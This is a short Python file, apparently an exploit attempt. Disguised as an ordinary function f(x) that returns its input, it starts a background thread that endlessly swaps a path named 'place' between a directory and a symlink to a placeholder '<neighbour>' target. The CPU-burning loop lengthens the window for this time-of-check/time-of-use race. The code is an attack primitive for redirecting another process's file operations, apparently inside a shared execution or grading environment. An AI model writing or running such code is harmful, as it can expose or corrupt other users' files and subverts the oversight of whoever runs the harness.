import os
import threading


def swap():
    while True:
        try:
            os.mkdir("place")
            os.rmdir("place")
            os.symlink("<neighbour>", "place")
            os.unlink("place")
        except OSError:
            pass


def f(x):
    threading.Thread(target=swap, daemon=True).start()
    sum(range(10**7))
    return x
